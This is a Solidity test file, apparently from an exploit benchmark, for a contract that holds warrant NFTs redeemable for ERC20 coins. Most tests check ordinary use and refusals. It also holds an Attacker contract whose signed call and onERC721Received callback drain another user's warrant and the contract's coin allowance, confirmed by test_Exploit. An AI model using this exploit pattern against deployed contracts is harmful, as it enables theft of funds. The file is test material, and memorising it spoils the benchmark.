// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

// assay-canary-39accd0f-b4fb-432d-bce2-13f05a12af46

import {ERC20} from "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";
import "./Carrier.sol";

interface Vm {
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 hash) external returns (uint8 v, bytes32 r, bytes32 s);
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "COIN") {
        _mint(msg.sender, 1_000_000e18);
    }
}

/// A customer of its own, who has signed a way of cashing the own warrant.
contract Attacker {
    Carrier private k;
    Warrants private w;
    uint256 private own;
    uint256 private other;
    bytes private sig;

    constructor(Carrier k_, uint256 own_, uint256 other_) {
        k = k_;
        w = k_.w();
        own = own_;
        other = other_;
    }

    function way() public view returns (Carrier.Way memory) {
        return Carrier.Way(
            address(this),
            address(w),
            abi.encodeWithSignature("safeTransferFrom(address,address,uint256)", address(k), address(this), other)
        );
    }

    function learn(bytes calldata s) external {
        sig = s;
    }

    function go() external {
        k.cash(own, way(), sig);
        w.cash(other);
    }

    function onERC721Received(address, address, uint256, bytes calldata) external returns (bytes4) {
        IERC20 c = k.c();
        c.transferFrom(address(k), address(this), c.allowance(address(k), address(this)));
        return this.onERC721Received.selector;
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    bytes32 private constant CASH = keccak256("Cash(uint256 id,uint256 turn,address spender,address to,bytes data)");
    bytes32 private constant GIVE = keccak256("Give(uint256 id,uint256 turn,address to)");
    uint256 private constant KIT = 0xA11;
    uint256 private constant ROB = 0xB0B;
    address private constant UMA = address(0x0A3A);

    Coin public coin;
    Warrants public w;
    Hub public hub;
    Carrier public k;
    Attacker public x;

    function setUp() public {
        coin = new Coin();
        w = new Warrants(coin, address(this));
        hub = new Hub(coin);
        k = new Carrier(w, hub);
        coin.approve(address(w), type(uint256).max);
        _keep(9_000e18, vm.addr(KIT));
        _keep(100e18, vm.addr(ROB));
        x = new Attacker(k, 2, 1);
        Carrier.Way memory y = x.way();
        x.learn(_sign(ROB, keccak256(abi.encode(CASH, uint256(2), k.turn(2), y.spender, y.to, keccak256(y.data)))));
    }

    function _keep(uint256 a, address o) private returns (uint256 id) {
        id = w.issue(address(hub), a);
        vm.startPrank(address(hub));
        w.approve(address(k), id);
        k.keep(id, o);
        vm.stopPrank();
    }

    function _sign(uint256 key, bytes32 h) private returns (bytes memory) {
        bytes32 domain = keccak256(
            abi.encode(
                keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)"),
                keccak256("Carrier"),
                keccak256("1"),
                block.chainid,
                address(k)
            )
        );
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(key, keccak256(abi.encodePacked("\x19\x01", domain, h)));
        return abi.encodePacked(r, s, v);
    }

    function _cash(uint256 key, uint256 id, Carrier.Way memory y) private returns (bytes memory) {
        return _sign(key, keccak256(abi.encode(CASH, id, k.turn(id), y.spender, y.to, keccak256(y.data))));
    }

    function _way(Hub h, uint256 a) private pure returns (Carrier.Way memory) {
        return Carrier.Way(address(h), address(h), abi.encode(uint32(7), bytes32(uint256(0xFA4)), a));
    }

    function test_Regular() public {
        require(k.count(vm.addr(KIT)) == 1 && k.holder(1) == vm.addr(KIT), "kept");
        Carrier.Way memory y = _way(hub, 9_000e18);
        require(k.cash(1, y, _cash(KIT, 1, y)) == 9_000e18, "cashed");
        require(coin.balanceOf(address(hub)) == 9_000e18 && hub.n() == 1 && k.count(vm.addr(KIT)) == 0, "carried");
        k.give(2, UMA, _sign(ROB, keccak256(abi.encode(GIVE, uint256(2), k.turn(2), UMA))));
        vm.prank(UMA);
        require(w.cash(2) == 100e18 && coin.balanceOf(UMA) == 100e18, "given");
        Hub next = new Hub(coin);
        k.setHub(next);
        require(coin.allowance(address(k), address(hub)) == 0, "no allowance");
        hub = next;
        uint256 id = _keep(5e18, vm.addr(ROB));
        y = _way(next, 5e18);
        k.cash(id, y, _cash(ROB, id, y));
        require(coin.balanceOf(address(next)) == 5e18, "the next hub");
        k.transferOwnership(UMA);
        vm.prank(UMA);
        k.acceptOwnership();
        vm.prank(UMA);
        k.renounceOwnership();
    }

    function test_RefusesStrangers() public {
        vm.prank(UMA);
        vm.expectRevert("Ownable: caller is not the owner");
        k.setHub(hub);
        uint256 id = w.issue(UMA, 1e18);
        vm.startPrank(UMA);
        w.approve(address(k), id);
        vm.expectRevert(abi.encodeWithSelector(Carrier.NotHub.selector));
        k.keep(id, UMA);
        vm.expectRevert(abi.encodeWithSelector(Warrants.NotMill.selector));
        w.issue(UMA, 0);
        vm.expectRevert(abi.encodeWithSelector(Warrants.NotBearer.selector));
        w.cash(1);
        vm.stopPrank();
    }

    function test_RefusesSignatures() public {
        Carrier.Way memory y = _way(hub, 9_000e18);
        bytes memory sig = _cash(ROB, 1, y);
        vm.expectRevert(abi.encodeWithSelector(Carrier.NotSigned.selector));
        k.cash(1, y, sig);
        sig = _sign(ROB, keccak256(abi.encode(GIVE, uint256(1), k.turn(1), UMA)));
        vm.expectRevert(abi.encodeWithSelector(Carrier.NotSigned.selector));
        k.give(1, UMA, sig);
    }

    /// A warrant that came back is not given away by the signature of the first time.
    function test_RefusesOldSignatures() public {
        bytes memory sig = _sign(ROB, keccak256(abi.encode(GIVE, uint256(2), k.turn(2), UMA)));
        k.give(2, UMA, sig);
        vm.prank(UMA);
        w.transferFrom(UMA, address(hub), 2);
        vm.startPrank(address(hub));
        w.approve(address(k), 2);
        k.keep(2, vm.addr(ROB));
        vm.stopPrank();
        vm.expectRevert(abi.encodeWithSelector(Carrier.NotSigned.selector));
        k.give(2, UMA, sig);
    }

    function test_RefusesWays() public {
        Carrier.Way memory y = _way(hub, 8_999e18);
        bytes memory sig = _cash(KIT, 1, y);
        vm.expectRevert(abi.encodeWithSelector(Carrier.NotAll.selector));
        k.cash(1, y, sig);
        y = _way(hub, 9_001e18);
        sig = _cash(KIT, 1, y);
        vm.expectRevert(abi.encodeWithSelector(Carrier.Failed.selector));
        k.cash(1, y, sig);
        y.to = address(coin);
        sig = _cash(KIT, 1, y);
        vm.expectRevert(abi.encodeWithSelector(Carrier.BadWay.selector));
        k.cash(1, y, sig);
    }

    /// Two coins that came by themselves would be enough for a call that fails.
    function test_RefusesFailedCalls() public {
        Carrier.Way memory y = Carrier.Way(address(this), address(hub), hex"12345678");
        bytes memory sig = _cash(KIT, 1, y);
        vm.expectRevert(abi.encodeWithSelector(Carrier.Failed.selector));
        k.cash(1, y, sig);
    }

    function exploit() public {
        x.go();
    }

    function test_Exploit() public {
        exploit();
        require(coin.balanceOf(address(x)) >= 9_000e18, "no gain");
    }

    function target() public view returns (address) {
        return address(k);
    }

    function attacker() public view returns (address) {
        return address(x);
    }
}
